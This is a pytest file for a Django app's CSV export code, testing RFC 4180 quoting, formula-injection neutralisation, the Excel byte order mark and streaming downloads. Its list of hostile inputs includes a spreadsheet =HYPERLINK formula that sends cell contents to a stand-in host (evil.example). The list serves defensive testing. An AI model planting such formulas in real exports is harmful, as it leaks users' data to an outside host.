"""annotator.csv_output: RFC 4180, formula neutralisation, Excel's byte order mark, streaming."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal

import pandas as pd
import pytest
from django.core.management.base import OutputWrapper
from django.http import StreamingHttpResponse
from django.test import RequestFactory

from annotator.csv_output import (
    BOM,
    FORMULA_STARTS,
    CsvWriter,
    csv_cell,
    csv_chunks,
    csv_excel_requested,
    csv_response,
    csv_text_neutralise,
    csv_text_restore,
    csv_write,
    row_batches,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "a, b",
    'say "hi"',
    "two\nlines",
    "cr\r\nlf",
    "'=already quoted",
    "''@twice",
    "'ascii' codec can't decode",
    "'",
    "",
    "plain",
    "ünïcödé – “quotes” ✓",
]


class Named:
    def __init__(self, name: str):
        self.name = name

    def __str__(self) -> str:
        return self.name


def parse(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))


def formula_leading(rows) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


# -- cells -------------------------------------------------------------------------------


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_text_starting_with_a_formula_character_gets_a_quote_in_front(start):
    assert csv_text_neutralise(f"{start}x") == f"'{start}x"
    assert csv_cell(f"{start}x") == f"'{start}x"


def test_other_texts_are_written_as_they_are():
    for text in ("plain", "'ascii' codec", "a=b", " =not at the start", "1+1", "", "'"):
        assert csv_text_neutralise(text) == text


def test_quotes_before_a_formula_character_get_one_more_so_the_rule_can_be_undone():
    assert csv_text_neutralise("'=x") == "''=x"
    assert csv_text_neutralise("''-x") == "'''-x"
    for text in HOSTILE:
        assert csv_text_restore(csv_text_neutralise(text)) == text
        assert not csv_text_neutralise(text).startswith(FORMULA_STARTS)
    # a cell that was not neutralised is its own text
    assert csv_text_restore("'ascii'") == "'ascii'"


def test_numbers_stay_numbers_and_other_values_have_one_spelling():
    assert csv_cell(12) == 12 and csv_cell(0.25) == 0.25 and csv_cell(Decimal("19.8")) == Decimal("19.8")
    assert csv_cell(-3) == -3  # a number is no formula
    assert csv_cell(None) == ""
    assert csv_cell(True) == "True"
    assert csv_cell(float("nan")) == "nan" and csv_cell(float("-inf")) == "'-inf"
    assert csv_cell(Decimal("-Infinity")) == "'-Infinity"
    paris = timezone(timedelta(hours=2))
    assert csv_cell(datetime(2024, 5, 1, 11, 30, tzinfo=paris)) == "2024-05-01T09:30:00+00:00"
    assert csv_cell(datetime(2024, 5, 1, 9, 30).date()) == "2024-05-01"
    assert csv_cell(Named("=evil()")) == "'=evil()"  # anything else: its text, under the text rule


# -- files -------------------------------------------------------------------------------


def test_rfc_4180_crlf_and_minimal_quoting():
    out = io.BytesIO()
    count = csv_write(out, ["a", "b"], [["x", 1], ["a, b", 'say "hi"'], ["two\nlines", 2.5]])
    assert count == 3
    assert out.getvalue() == b'a,b\r\nx,1\r\n"a, b","say ""hi"""\r\n"two\nlines",2.5\r\n'


def test_hostile_texts_round_trip_through_csv_and_pandas_with_no_formula_leading_cell():
    out = io.BytesIO()
    csv_write(out, ["text", "n"], [[text, i] for i, text in enumerate(HOSTILE)])
    rows = parse(out.getvalue())
    assert formula_leading(rows) == []
    assert [csv_text_restore(row[0]) for row in rows[1:]] == HOSTILE
    frame = pd.read_csv(io.BytesIO(out.getvalue()), dtype=str, keep_default_na=False)
    assert list(frame.columns) == ["text", "n"]
    assert [csv_text_restore(cell) for cell in frame["text"]] == HOSTILE
    assert list(frame["n"]) == [str(i) for i in range(len(HOSTILE))]
    assert not any(cell.startswith(FORMULA_STARTS) for cell in frame["text"])


def test_excel_puts_a_utf8_byte_order_mark_in_front_and_pandas_reads_past_it():
    plain, excel = io.BytesIO(), io.BytesIO()
    csv_write(plain, ["name"], [["ünï"]])
    csv_write(excel, ["name"], [["ünï"]], excel=True)
    assert excel.getvalue() == b"\xef\xbb\xbf" + plain.getvalue()
    assert list(pd.read_csv(io.BytesIO(excel.getvalue())).columns) == ["name"]
    empty = io.BytesIO()
    csv_write(empty, ["name"], [], excel=True)
    assert empty.getvalue() == b"\xef\xbb\xbfname\r\n"


def test_text_streams_and_a_commands_stdout_get_the_same_text():
    binary, text, stdout = io.BytesIO(), io.StringIO(newline=""), io.StringIO(newline="")
    rows = [["=x", 1], ["two\nlines", 2]]
    for out in (binary, text, OutputWrapper(stdout)):
        csv_write(out, ["a", "b"], rows, excel=True)
    assert text.getvalue() == stdout.getvalue() == binary.getvalue().decode()
    assert text.getvalue().startswith(BOM + "a,b\r\n")  # OutputWrapper added no newline after the mark


def test_a_writer_passes_rows_on_in_chunks_and_the_rest_at_close():
    out = io.BytesIO()
    writer = CsvWriter(out, chunk_chars=50)
    writer.writerow(["header"])
    assert out.getvalue() == b""
    for i in range(10):
        writer.writerow([f"row {i:02d} " + "x" * 10])
    written = len(out.getvalue())
    assert 0 < written < 10 * 20
    writer.close()
    assert parse(out.getvalue())[-1] == ["row 09 xxxxxxxxxx"]


def test_chunks_are_the_file_and_read_rows_only_as_needed():
    consumed = []

    def rows():
        for i in range(1000):
            consumed.append(i)
            yield [f"=row {i}", i]

    chunks = csv_chunks(["text", "n"], rows(), chunk_chars=1000)
    first = next(chunks)
    assert 0 < len(consumed) < 1000
    data = first + b"".join(chunks)
    out = io.BytesIO()
    csv_write(out, ["text", "n"], ([f"=row {i}", i] for i in range(1000)))
    assert data == out.getvalue()
    assert b"".join(csv_chunks(["a"], [], excel=True)) == b"\xef\xbb\xbfa\r\n"


def test_row_batches():
    assert list(row_batches(range(7), 3)) == [[0, 1, 2], [3, 4, 5], [6]]
    assert list(row_batches([], 3)) == []


# -- downloads -----------------------------------------------------------------------------


@pytest.mark.parametrize(("query", "excel"), [("", False), ("?excel=1", True), ("?excel=true", True),
                                               ("?excel=0", False), ("?excel=nonsense", False)])
def test_a_response_streams_the_file_with_its_name(query, excel):
    request = RequestFactory().get(f"/x.csv{query}")
    assert csv_excel_requested(request) is excel
    response = csv_response(request, header=["title"], rows=iter([["=1+1"], ["a,b"]]), filename="my study.csv")
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="my study.csv"'
    assert "no-cache" in response["Cache-Control"] and "private" in response["Cache-Control"]
    body = b"".join(response.streaming_content)
    assert body == (b"\xef\xbb\xbf" if excel else b"") + b"title\r\n'=1+1\r\n\"a,b\"\r\n"


def test_a_non_ascii_filename_is_sent_the_rfc_6266_way():
    response = csv_response(RequestFactory().get("/"), header=["a"], rows=[], filename="études.csv")
    assert response["Content-Disposition"] == "attachment; filename*=utf-8''%C3%A9tudes.csv"


def test_aware_times_are_written_in_utc():
    out = io.BytesIO()
    csv_write(out, ["when"], [[datetime(2024, 1, 1, 23, 0, tzinfo=UTC)]])
    assert parse(out.getvalue())[1] == ["2024-01-01T23:00:00+00:00"]
